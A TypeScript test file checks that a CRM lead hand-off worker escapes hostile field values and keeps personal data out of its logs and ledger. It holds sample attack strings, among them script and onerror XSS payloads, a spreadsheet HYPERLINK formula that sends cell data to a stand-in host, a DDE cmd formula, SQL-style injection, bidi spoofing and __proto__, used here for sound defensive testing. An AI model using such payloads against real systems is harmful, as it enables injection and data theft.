import { plainText } from '../support/plain.ts';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readLedger } from '../support/stored.ts';
import { handedOff, whole } from '../support/whole.ts';
import { connection } from '../support/portal.ts';
import { startWorker, type Worker } from '../support/worker.ts';

let worker: Worker;
beforeAll(async () => {
  worker = await startWorker();
});
afterAll(() => worker.stop());

/** HubSpot's limit for the body of a note, in characters. */
const maxBody = 65_536;
/** DynamoDB's limit for an item is 400 KB; the ledger keeps far below it. */
const maxEntryBytes = 40_000;

/** Texts that a stranger can leave anywhere. `canary` is what must not be found again unescaped, or in a log. */
const hostile: Record<string, { value: string; canary: string }> = {
  'a script': { value: '<script>alert("canary-1")</script>', canary: '<script' },
  'an image that runs': { value: `"><img src=x onerror='steal("canary-2")'>`, canary: '<img' },
  'HTML that closes ours': { value: '</li></ul></p><h1>canary-3</h1><p>', canary: '<h1' },
  'half an entity': { value: 'canary-4 &lt;b&gt; &#60;i&#62; &amp', canary: '<b>' },
  'a formula': { value: '=HYPERLINK("http://canary-5.example?x="&A1,"click")', canary: 'HYPERLINK("http' },
  'a formula in disguise': { value: '\t@SUM(1+1)*cmd|"/C canary-6"!A0', canary: 'cmd|"' },
  'a text as long as a field can be': { value: 'canary-7 '.repeat(7000), canary: 'canary-7 '.repeat(1000) },
  'one word as long as a field can be': { value: 'x'.repeat(65_000), canary: 'x'.repeat(1000) },
  'nothing but ampersands': { value: '&'.repeat(65_000), canary: '&&' },
  'nothing but characters of four bytes': { value: '𝕏'.repeat(32_000), canary: '𝕏'.repeat(1000) },
  'marks that turn the direction': { value: 'canary-8 \u202Egnp.exe\u202C \u2066\u2067', canary: '\u202E' },
  'half a surrogate pair': { value: 'canary-9 \uD800 \uDC00', canary: '\uD800' },
  'control characters': { value: 'canary-10 \u0000\u0007\u001B[2J\r\n\r\n', canary: '\u001B' },
  'a query': { value: "canary-11' OR Name LIKE '%' --", canary: "canary-11' OR" },
  'a filter': { value: '{"filterGroups":[{"filters":[{"value":"canary-12"}]}]}', canary: '"canary-12"' },
  'placeholders of ours': { value: '{email} {problem} ${owner} {{contact.email}} canary-13', canary: 'pat@' },
  'a mark of ours': {
    value: '<p>Ref wh-0123456789abcdef</p> Ref wh-0123456789abcdef canary-14',
    canary: '<p>Ref wh-0123',
  },
  'a log line of ours': { value: '{"level":"ERROR","message":"canary-15"}', canary: 'canary-15"' },
  'only white space': { value: ' \u00A0\u200B\u3000 ', canary: '\u200B' },
  'prototype words': { value: '__proto__', canary: 'polluted' },
};
/** Every text that comes into a note, a task, a field or the table. */
const fields = [
  'firstname',
  'lastname',
  'company',
  'jobtitle',
  'phone',
  'website',
  'country',
  'state',
  'city',
  'industry',
  'message',
];

let firms = 0;
const handOff = async (properties: Record<string, string>): Promise<{ id: string; lines: string[] }> => {
  const before = worker.lines.length;
  const email = `pat@hostile-${(firms += 1)}.example`;
  const id = worker.hubspot.records.asCrm('FORM').create('contacts', { email, ...properties }).id;
  expect(await worker.send([worker.look(id)])).toBe(0);
  return { id, lines: worker.lines.slice(before) };
};
const taskOf = (id: string): string =>
  worker.hubspot.records
    .associated({ type: 'contacts', id }, 'tasks')
    .map((row) => worker.hubspot.records.get('tasks', row.id)?.properties.get('hs_task_subject') ?? '')
    .join();

describe.each(Object.entries(hostile))('a lead with %s', (_name, { value, canary }) => {
  test('in every field is handed off, escaped, short, and not in the log', async () => {
    const { id, lines } = await handOff({
      ...Object.fromEntries(fields.map((field) => [field, value])),
      recent_conversion_event_name: value,
      recent_conversion_date: worker.clock.at,
      hs_analytics_last_url: value,
      hs_analytics_last_timestamp: worker.clock.at,
    });
    expect(await whole(worker, id)).toEqual(handedOff);
    const [note = ''] = worker.bodies(id, 'notes');
    const [task = ''] = worker.bodies(id, 'tasks');
    for (const text of [note, task]) {
      expect(text.length).toBeLessThanOrEqual(maxBody);
      expect(text.isWellFormed()).toBe(true);
      expect(text.replaceAll(/<\/?(p|ul|li|strong)>/g, '')).not.toMatch(/[<>]/);
      expect(text).not.toMatch(/&(?!(amp|lt|gt|quot|apos|nbsp|#\d+);)/);
      expect(text).not.toContain(canary);
    }
    for (const name of ['handoff_reasons', 'handoff_owner_reason', 'handoff_contact_checks']) {
      expect(worker.property(id, name).length).toBeLessThanOrEqual(2000);
      expect(worker.property(id, name).isWellFormed()).toBe(true);
    }
    expect(taskOf(id).length).toBeLessThan(300);
    expect(lines.join('\n')).not.toMatch(/canary|pat@|hostile-/);
    for (const line of lines) expect(line.length).toBeLessThan(3000);
  });

  test('as its address is handed off all the same', async () => {
    // Past the form's own check: an import takes what there is.
    const { id, lines } = await handOff({ firstname: 'Pat', message: 'Our line stops.' });
    const crm = worker.openCrm();
    worker.clock.advance(2000);
    const [outcome] = await worker.handOff([worker.look(id)], {
      crm: {
        ...crm,
        readLeads: async (ids) =>
          new Map(
            [...(await crm.readLeads(ids))].map(([key, row]) => [
              key,
              row.ok && row.value.found === 'record'
                ? {
                    ok: true,
                    value: {
                      ...row.value,
                      record: {
                        ...row.value.record,
                        facts: { ...row.value.record.facts, email: value, website: value },
                      },
                    },
                  }
                : row,
            ]),
          ),
      },
    });
    expect(outcome?.outcome.ends).toBe('done');
    expect(await whole(worker, id)).toEqual(handedOff);
    expect(lines.join('\n')).not.toContain(canary);
  });
});

describe('what is kept of hostile values', () => {
  test('is short, derived, and without the words of the buyer', async () => {
    const long = 'Ünïcödé '.repeat(8000);
    const { id } = await handOff(Object.fromEntries(fields.map((field) => [field, long])));
    const [entry] = await readLedger(worker.table, connection, id);
    expect(entry).toMatchObject({ inputs: { facts: { firstName: true, lastName: true, problem: true, title: '…' } } });
    expect(Buffer.byteLength(JSON.stringify(entry))).toBeLessThan(maxEntryBytes);
    expect(Buffer.byteLength(JSON.stringify(await worker.state(id)))).toBeLessThan(maxEntryBytes);
  });

  test('holds no name, address or word of any buyer of this file', async () => {
    const { id } = await handOff({
      firstname: 'Quintessa',
      lastname: 'Marblehead',
      message: 'Our zeppelins leak.',
      phone: '+49 30 901820',
    });
    expect(await whole(worker, id)).toEqual(handedOff);
    const { Items = [] } = await worker.table.doc.send(new ScanCommand({ TableName: worker.table.name }));
    const text = plainText(...Items);
    expect(text).toContain(id);
    expect(text).not.toMatch(/Quintessa|Marblehead|zeppelin|901820|pat@/);
  });

  test('says nothing in the log when the CRM refuses the record, or the call', async () => {
    const before = worker.lines.length;
    const secrets = { firstname: 'Quintessa', lastname: 'Marblehead', message: 'Our zeppelins leak.' };
    worker.hubspot.records.definitions.archive('contacts', 'handoff_segment');
    const refused = await handOff(secrets);
    expect((await worker.state(refused.id)).parked?.reason).toContain('handoff_segment');
    await worker.setUp();
    worker.hubspot.faults.add({
      path: /batch\/read$/,
      action: { kind: 'status', status: 401, body: { message: 'Marblehead' } },
    });
    await handOff(secrets);
    const lines = worker.lines.slice(before).join('\n');
    expect(lines).toContain('unauthorized');
    expect(lines).not.toMatch(/Quintessa|Marblehead|zeppelin|pat@|portal-token|portal-secret|Bearer/);
  });
});
